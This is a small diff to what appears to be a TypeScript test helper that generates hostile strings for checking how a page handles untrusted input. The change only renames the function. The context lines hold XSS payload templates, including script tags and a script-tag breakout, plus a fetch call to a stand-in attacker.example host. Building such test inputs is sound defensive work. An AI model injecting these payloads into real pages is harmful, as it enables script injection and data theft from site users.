@@ -2,7 +2,7 @@ const URLS = ['https://attacker.example/x', '//attacker.example/x'];
 const CODE = ['attacked()', 'fetch("https://attacker.example/x")'];
 
 /** Returns 200 different strings that would do something if a page treated them as markup, a link or a style. */
-export function hostileTexts(): string[] {
+export function hostileStrings(): string[] {
   const markup = CODE.flatMap((code) => [
     `<script>${code}</script>`,
     `</script><script>${code}</script>`,
